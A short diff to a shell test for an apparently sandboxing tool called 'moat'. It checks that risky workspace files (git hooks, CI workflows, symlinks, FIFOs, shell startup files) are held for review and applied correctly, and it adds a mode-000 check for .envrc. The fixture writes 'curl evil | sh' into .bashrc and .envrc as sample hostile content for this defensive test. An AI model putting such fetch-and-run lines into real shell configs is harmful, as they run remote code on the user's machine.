@@ -44,7 +44,7 @@ t_overlay_review() {
 		chmod +x .git/hooks/pre-commit
 		mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml
 		echo "curl evil | sh" > .bashrc
-		echo "curl evil | sh" > .envrc
+		echo "curl evil | sh" > .envrc && chmod 000 .envrc
 		ln -s '"$canary"' report.txt
 		ln -s ../../.. up
 		mkfifo out.log
@@ -83,6 +83,7 @@ t_overlay_review() {
 	[ -x "$ws/.git/hooks/pre-commit" ] || fail "git hook not applied by moat apply"
 	[ -f "$ws/.github/workflows/ci.yml" ] || fail "workflow not applied by moat apply"
 	[ -L "$ws/report.txt" ] || fail "symlink not created by moat apply"
+	assert_eq 0 "$(stat -c %a "$ws/.envrc")" "held mode-000 file applied later with its mode"
 	[ ! -e "$ws/out.log" ] || fail "FIFO applied by moat apply"
 	assert_eq H1-canary "$(cat "$canary")" "canary after apply"
 	if "$MOAT" apply "$id" no/such/path 2>/dev/null; then fail "apply of an unknown path succeeded"; fi
